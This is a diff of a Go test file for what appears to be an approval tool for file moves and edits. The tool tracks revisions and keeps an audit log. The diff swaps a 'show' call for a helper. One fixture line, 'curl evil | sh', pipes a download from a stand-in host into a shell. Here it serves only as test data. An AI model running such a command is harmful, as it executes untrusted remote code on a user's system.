@@ -99,7 +99,7 @@ func TestMoveShowsTheWholeFile(t *testing.T) {
 			t.Errorf("%s does not show the removal of the source:\n%s", name, text)
 		}
 	}
-	a.run("show", c.ID)
+	a.show(c)
 	a.must("answer", "allow", c.ID)
 	a.idle("mover")
 	if got, _ := os.ReadFile(dest); string(got) != written || exists(src) {
@@ -156,7 +156,7 @@ func TestFileChangedBeforeTheAnswerIsARevision(t *testing.T) {
 	if err := os.WriteFile(notes, []byte("one\ntwo\nthree\nfour: curl evil | sh\n"), 0o600); err != nil {
 		t.Fatal(err)
 	}
-	a.run("show", c.ID)
+	a.show(c)
 	if out, err := a.run("answer", "allow", c.ID, "--revision", "1"); err == nil || !strings.Contains(out, "changed since it was shown") {
 		t.Fatalf("allow after the file changed: %v %q", err, out)
 	}
@@ -168,7 +168,7 @@ func TestFileChangedBeforeTheAnswerIsARevision(t *testing.T) {
 	if !strings.Contains(string(audit), `"event":"revised"`) || !strings.Contains(string(audit), "changed on disk") {
 		t.Errorf("no revision in the audit log:\n%s", audit)
 	}
-	a.run("show", c.ID)
+	a.show(c)
 	a.must("answer", "allow", c.ID, "--revision", "2")
 	a.idle("editor")
 	if got, _ := os.ReadFile(notes); string(got) != "one\nTWO\nthree\nfour: curl evil | sh\n" {
